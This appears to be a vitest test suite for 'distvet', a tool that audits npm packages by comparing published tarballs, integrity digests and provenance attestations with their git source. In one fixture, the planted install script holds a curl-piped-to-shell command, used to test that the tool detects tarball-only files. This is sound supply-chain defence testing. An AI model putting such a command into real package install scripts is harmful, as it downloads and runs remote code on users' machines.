import { describe, it, expect, beforeAll, afterAll } from "vitest";
import { execFile, execFileSync } from "node:child_process";
import { mkdirSync, existsSync, statSync } from "node:fs";
import { join } from "node:path";
import { tmp } from "./tmp.js";
import { FixtureServer, publishNpm, attestationBundle, sha512hex } from "./registry-fixture.js";
import { makeRepo } from "../samples/lib/fixture.js";
import { Fetcher } from "../src/fetch/fetcher.js";
import { parseRepository, sameRepository } from "../src/fetch/repository.js";
import { parseIntegrity, parseAttestations } from "../src/fetch/registries/npm.js";
import { cachedClone, findMirror } from "../src/git/open.js";
import { auditSpec, parseSpec } from "../src/spec.js";
import { DistvetError } from "../src/errors.js";

const CLI = join(import.meta.dirname, "..", "dist", "cli", "main.js");
const noRetry = () => new Fetcher({ retries: 1, backoffMs: 1 });

let server: FixtureServer;
let dir: string;
let mirror: string;
const GIT = { "package.json": '{"name":"widget","version":"1.2.0"}\n', "index.js": "module.exports = 1;\n", "README.md": "# widget\n", "test/t.js": "ok\n" };

beforeAll(async () => {
  server = await new FixtureServer().start();
  dir = tmp();
  mirror = join(dir, "mirror");
  mkdirSync(mirror, { recursive: true });
});
afterAll(async () => server.stop());

describe("spec parsing", () => {
  it("reads npm (scoped too), crate, pypi and deb specs", () => {
    expect(parseSpec("npm:ms@2.1.3")).toEqual({ ecosystem: "npm", name: "ms", version: "2.1.3" });
    expect(parseSpec("npm:@scope/pkg@1.0.0")).toEqual({ ecosystem: "npm", name: "@scope/pkg", version: "1.0.0" });
    expect(parseSpec("npm:@scope/pkg")).toEqual({ ecosystem: "npm", name: "@scope/pkg", version: "" });
    expect(parseSpec("crate:serde@1.0.0")).toMatchObject({ ecosystem: "crate", name: "serde", version: "1.0.0" });
    expect(parseSpec("pypi:requests==2.31.0")).toMatchObject({ ecosystem: "pypi", name: "requests", version: "2.31.0" });
    expect(parseSpec("deb:xz-utils=5.4.1-0.2")).toMatchObject({ ecosystem: "deb", name: "xz-utils", version: "5.4.1-0.2" });
    expect(() => parseSpec("pypi:requests")).toThrow(/names no version/);
  });
});

describe("repository fields", () => {
  it("normalises the forms npm metadata uses", () => {
    expect(parseRepository("github:a/b")).toMatchObject({ url: "https://github.com/a/b.git", owner: "a", name: "b" });
    expect(parseRepository("a/b")).toMatchObject({ url: "https://github.com/a/b.git", owner: "a", name: "b" });
    expect(parseRepository({ type: "git", url: "git+https://github.com/a/b.git", directory: "packages/x" })).toMatchObject({ owner: "a", name: "b", directory: "packages/x" });
    expect(parseRepository("git://github.com/a/b.git")).toMatchObject({ owner: "a", name: "b" });
    expect(parseRepository("git+ssh://git@github.com/a/b.git")).toMatchObject({ owner: "a", name: "b" });
    expect(parseRepository("git@gitlab.com:a/b.git")).toMatchObject({ host: "gitlab.com", owner: "a", name: "b" });
    expect(parseRepository("https://github.com/a/b/tree/main/packages/y")).toMatchObject({ owner: "a", name: "b", directory: "packages/y" });
    expect(parseRepository({ url: "https://github.com/a/b", directory: "../../etc" })?.directory).toBeUndefined();
    expect(parseRepository("not a repo")).toBeNull();
    expect(sameRepository(parseRepository("github:Acme/Widget")!, parseRepository("https://github.com/acme/widget")!)).toBe(true);
    expect(sameRepository(parseRepository("github:acme/widget")!, parseRepository("https://github.com/acme/widget-fork")!)).toBe(false);
  });

  it("reads SRI integrity strings", () => {
    const d = parseIntegrity(`sha512-${Buffer.from("x").toString("base64")} sha1-${Buffer.from("y").toString("base64")}`, "t");
    expect(d.map((x) => x.algorithm)).toEqual(["sha512", "sha1"]);
    expect(d[0]!.hex).toBe(Buffer.from("x").toString("hex"));
  });
});

describe("mirror layouts", () => {
  it("finds owner+name (bare or one bare inside) and owner/name.git, case-insensitively", () => {
    const m = join(dir, "layouts");
    for (const d of ["o2+r2", "o3"]) mkdirSync(join(m, d), { recursive: true });
    makeRepo(join(dir, "lw"), [{ files: { a: "1" }, tag: "v1" }], { bare: join(m, "o1+r1") });
    makeRepo(join(dir, "lw2"), [{ files: { a: "1" }, tag: "v1" }], { bare: join(m, "o2+r2", "repo") });
    makeRepo(join(dir, "lw3"), [{ files: { a: "1" }, tag: "v1" }], { bare: join(m, "o3", "r3.git") });
    expect(findMirror(m, "o1", "r1")).toBe(join(m, "o1+r1"));
    expect(findMirror(m, "O2", "R2")).toBe(join(m, "o2+r2", "repo"));
    expect(findMirror(m, "o3", "r3")).toBe(join(m, "o3", "r3.git"));
    expect(findMirror(m, "o4", "r4")).toBeNull();
  });
});

describe("fetcher", () => {
  it("retries a transient failure, then succeeds", async () => {
    let n = 0;
    server.routes.set("/flaky", (_req, res) => {
      n++;
      if (n < 3) res.writeHead(503).end("busy");
      else res.writeHead(200, { "content-type": "application/json" }).end('{"ok":true}');
    });
    expect(await new Fetcher({ retries: 3, backoffMs: 1 }).json(`${server.base}/flaky`)).toEqual({ ok: true });
    expect(n).toBe(3);
  });

  it("does not retry a 404 and says so", async () => {
    server.hits.delete("/missing");
    await expect(new Fetcher({ retries: 3, backoffMs: 1 }).json(`${server.base}/missing`)).rejects.toThrow(/HTTP 404/);
    expect(server.hits.get("/missing")).toBe(1);
  });

  it("refuses a body over the size cap, even without a content-length", async () => {
    server.routes.set("/big", (_req, res) => {
      res.writeHead(200);
      res.write(Buffer.alloc(4096));
      res.end(Buffer.alloc(4096));
    });
    await expect(new Fetcher({ maxBytes: 5000, retries: 0 }).toFile(`${server.base}/big`, join(dir, "big"))).rejects.toThrow(/limit/);
    await expect(new Fetcher({ maxBytes: 5000, retries: 0 }).bytes(`${server.base}/big`)).rejects.toThrow(/limit/);
  });

  it("gives up on a server that never answers, after the timeout", async () => {
    server.routes.set("/hang", () => undefined);
    await expect(new Fetcher({ timeoutMs: 200, retries: 1, backoffMs: 1 }).json(`${server.base}/hang`)).rejects.toThrow(/timed out.*2 attempts/);
  });
});

describe("npm: specs", () => {
  it("verifies the integrity, finds the mirror, guesses the tag and audits clean", async () => {
    await publishNpm(server, dir, mirror, { name: "widget", version: "1.2.0", git: GIT });
    const notes: string[] = [];
    const r = await auditSpec("npm:widget@1.2.0", { registries: { npm: server.base }, mirrorDir: mirror, fetcher: noRetry(), onNote: (m) => notes.push(m) });
    expect(r.git.ref).toBe("v1.2.0");
    expect(r.source.refHow).toMatch(/tag guessed/);
    expect(r.source.verified).toEqual(["sha512 (dist.integrity)"]);
    expect(r.git.source).toBe("acme/widget");
    expect(r.summary.findings.high + r.summary.findings.medium).toBe(0);
    expect(notes.join("\n")).toContain("sha512 from dist.integrity verified");
  });

  it("audits against gitHead when published, even with no tag", async () => {
    const { commits } = await publishNpm(server, dir, mirror, { name: "gadget", version: "0.3.0", git: GIT, tag: null, doc: {} });
    server.json("/gadget/0.3.0", { ...JSON.parse(String((server.routes.get("/gadget/0.3.0") as { body: string }).body)), gitHead: commits[0] });
    const r = await auditSpec("npm:gadget@0.3.0", { registries: { npm: server.base }, mirrorDir: mirror, fetcher: noRetry() });
    expect(r.git.commit).toBe(commits[0]);
    expect(r.source.refHow).toMatch(/gitHead/);
  });

  it("flags a gitHead that no branch or tag contains (a fork's or a pull request's commit)", async () => {
    const { doc } = await publishNpm(server, dir, mirror, { name: "forkish", version: "1.0.0", git: GIT, tag: null });
    const bare = join(mirror, "acme+forkish", "repo");
    const g = (...a: string[]) => execFileSync("git", ["--git-dir", bare, "-c", "user.name=t", "-c", "user.email=t@t", ...a], { encoding: "utf8" }).trim();
    // Same tree as the branch, but a commit only a pull-request ref points at.
    const stray = g("commit-tree", "HEAD^{tree}", "-p", "HEAD", "-m", "from a fork");
    g("update-ref", "refs/pull/1/head", stray);
    server.json("/forkish/1.0.0", { ...doc, gitHead: stray });
    const r = await auditSpec("npm:forkish@1.0.0", { registries: { npm: server.base }, mirrorDir: mirror, fetcher: noRetry() });
    expect(r.git.commit).toBe(stray);
    expect(r.findings.filter((f) => f.rule === "registry-commit-unreachable").map((f) => f.severity)).toEqual(["medium"]);
    // The branch head itself is fine.
    server.json("/forkish/1.0.0", { ...doc, gitHead: g("rev-parse", "main") });
    const ok = await auditSpec("npm:forkish@1.0.0", { registries: { npm: server.base }, mirrorDir: mirror, fetcher: noRetry() });
    expect(ok.findings.filter((f) => f.rule === "registry-commit-unreachable")).toEqual([]);
  });

  it("finds a file added to the published tarball only", async () => {
    await publishNpm(server, dir, mirror, { name: "sneaky", version: "2.0.0", git: GIT, tarball: { ...GIT, "lib/install.js": "require('child_process').exec('curl x | sh')\n" } });
    const r = await auditSpec("npm:sneaky@2.0.0", { registries: { npm: server.base }, mirrorDir: mirror, fetcher: noRetry() });
    expect(r.findings.map((f) => f.path)).toContain("lib/install.js");
  });

  it("an integrity mismatch is an error, not an audit", async () => {
    const { doc } = await publishNpm(server, dir, mirror, { name: "tampered", version: "1.0.0", git: GIT });
    server.json("/tampered/1.0.0", { ...doc, dist: { ...doc.dist, integrity: `sha512-${Buffer.alloc(64).toString("base64")}` } });
    await expect(auditSpec("npm:tampered@1.0.0", { registries: { npm: server.base }, mirrorDir: mirror, fetcher: noRetry() })).rejects.toMatchObject({ code: "E_CHECKSUM_MISMATCH" });
  });

  it("an extra expected digest (a lockfile's) must match too", async () => {
    await expect(
      auditSpec("npm:widget@1.2.0", { registries: { npm: server.base }, mirrorDir: mirror, fetcher: noRetry(), expect: [{ algorithm: "sha512", hex: "00".repeat(64), from: "package-lock.json" }] }),
    ).rejects.toThrow(/package-lock.json/);
  });

  it("unknown package, missing mirror and missing tag are clear errors", async () => {
    const o = { registries: { npm: server.base }, mirrorDir: mirror, fetcher: noRetry() };
    await expect(auditSpec("npm:nope@1.0.0", o)).rejects.toThrow(/has no nope@1.0.0/);
    const { doc } = await publishNpm(server, dir, join(dir, "elsewhere"), { name: "orphan", version: "1.0.0", git: GIT });
    void doc;
    await expect(auditSpec("npm:orphan@1.0.0", o)).rejects.toThrow(/no mirror of acme\/orphan/);
    await publishNpm(server, dir, mirror, { name: "untagged", version: "3.0.0", git: GIT, tag: "something-else" });
    await expect(auditSpec("npm:untagged@3.0.0", o)).rejects.toMatchObject({ code: "E_UNKNOWN_REF" });
  });

  it("uses `directory` from the repository field as the subdirectory", async () => {
    const mono = { "package.json": "{}\n", "packages/core/package.json": '{"name":"@acme/core"}\n', "packages/core/index.js": "x\n" };
    await publishNpm(server, dir, mirror, {
      name: "@acme/core",
      version: "4.0.0",
      repoName: "mono",
      git: mono,
      tarball: { "package.json": '{"name":"@acme/core"}\n', "index.js": "x\n" },
      tag: "@acme/core@4.0.0",
      doc: { repository: { type: "git", url: "https://github.com/acme/mono.git", directory: "packages/core" } },
    });
    const r = await auditSpec("npm:@acme/core@4.0.0", { registries: { npm: server.base }, mirrorDir: mirror, fetcher: noRetry() });
    expect(r.git.subdir).toBe("packages/core");
    expect(r.git.ref).toBe("@acme/core@4.0.0");
    expect(r.summary.identical).toBe(2);
  });
});

describe("npm provenance", () => {
  const setup = async (name: string, att: (o: { commit: string; sha: string }) => Parameters<typeof attestationBundle>[0]) => {
    const { commits, bytes, doc } = await publishNpm(server, dir, mirror, { name, version: "1.0.0", git: GIT, repoName: name });
    const attPath = `/-/npm/v1/attestations/${name}@1.0.0`;
    server.json(attPath, attestationBundle(att({ commit: commits[0]!, sha: sha512hex(bytes) })));
    server.json(`/${name}/1.0.0`, { ...doc, gitHead: commits[0], dist: { ...doc.dist, attestations: { url: `${server.base}${attPath}`, provenance: { predicateType: "https://slsa.dev/provenance/v1" } } } });
    return auditSpec(`npm:${name}@1.0.0`, { registries: { npm: server.base }, mirrorDir: mirror, fetcher: noRetry() });
  };

  it("records a matching attestation without a finding (repo spelled in another case)", async () => {
    const r = await setup("attested", ({ commit, sha }) => ({ repo: "https://github.com/ACME/attested", ref: "refs/tags/v1.0.0", commit, subjectSha512: sha, name: "attested", version: "1.0.0" }));
    expect(r.source.attestation).toMatchObject({ repository: "https://github.com/ACME/attested", signatureVerified: false });
    expect(r.findings.filter((f) => f.rule === "registry-provenance-mismatch")).toEqual([]);
  });

  it("flags an attestation from another repository as high", async () => {
    const r = await setup("forked", ({ commit, sha }) => ({ repo: "https://github.com/acme/forked-evil", ref: "refs/heads/main", commit, subjectSha512: sha, name: "forked", version: "1.0.0" }));
    const f = r.findings.filter((x) => x.rule === "registry-provenance-mismatch");
    expect(f.map((x) => x.severity)).toEqual(["high"]);
    expect(f[0]!.message).toContain("acme/forked-evil");
    expect(r.summary.findings.high).toBeGreaterThanOrEqual(1);
  });

  it("flags an attested commit other than gitHead, and an attested digest of another tarball", async () => {
    const r = await setup("drifted", ({ sha }) => ({ repo: "https://github.com/acme/drifted", ref: "refs/tags/v1.0.0", commit: "1".repeat(40), subjectSha512: sha.replace(/^./, (c) => (c === "0" ? "1" : "0")), name: "drifted", version: "1.0.0" }));
    const msgs = r.findings.filter((x) => x.rule === "registry-provenance-mismatch").map((x) => x.message);
    expect(msgs.some((m) => m.includes("gitHead"))).toBe(true);
    expect(msgs.some((m) => m.includes("not the one the registry serves"))).toBe(true);
  });

  it("reads SLSA v0.2 configSource too", () => {
    const stmt = { predicate: { invocation: { configSource: { uri: "git+https://github.com/a/b@refs/heads/main", digest: { sha1: "A".repeat(40) } } } }, subject: [] };
    const a = parseAttestations({ attestations: [{ predicateType: "https://slsa.dev/provenance/v0.2", bundle: { dsseEnvelope: { payload: Buffer.from(JSON.stringify(stmt)).toString("base64") } } }] });
    expect(a).toMatchObject({ repository: "https://github.com/a/b", ref: "refs/heads/main", commit: "a".repeat(40) });
  });
});

describe("repository cache", () => {
  it("clones once, reuses the clone, and fetches a tag made later", async () => {
    const work = join(dir, "upstream");
    makeRepo(work, [{ files: { a: "1" }, tag: "v1" }]);
    const cache = join(dir, "cache");
    const url = `file://${work}`;
    const g1 = await cachedClone(url, cache, ["v1"]);
    expect(existsSync(join(g1, "HEAD"))).toBe(true);
    const ino = statSync(g1).ino;
    execFileSync("git", ["-C", work, "tag", "v2"]);
    const g2 = await cachedClone(url, cache, ["v2"]);
    expect(g2).toBe(g1);
    expect(statSync(g2).ino).toBe(ino);
    expect(execFileSync("git", ["--git-dir", g2, "tag"], { encoding: "utf8" }).split("\n")).toContain("v2");
  });

  it("an unreachable repository is a one-line error", async () => {
    await expect(cachedClone(`file://${join(dir, "does-not-exist")}`, join(dir, "cache"))).rejects.toBeInstanceOf(DistvetError);
  });
});

describe("distvet audit npm:…", () => {
  it("runs from the command line with --registry and --mirror-dir", async () => {
    // The fixture server runs in this process: the CLI must be spawned asynchronously.
    const r = await new Promise<{ status: number | null; stdout: string; stderr: string }>((ok) =>
      execFile(process.execPath, [CLI, "audit", "npm:widget@1.2.0", "--registry", server.base, "--mirror-dir", mirror, "--format", "json"], (err, stdout, stderr) =>
        ok({ status: err ? ((err as { code?: number }).code ?? 2) : 0, stdout, stderr }),
      ),
    );
    expect(r.stderr).toContain("ref v1.2.0");
    expect(r.status).toBe(0);
    expect(JSON.parse(r.stdout).source.spec).toBe("npm:widget@1.2.0");
  });
});
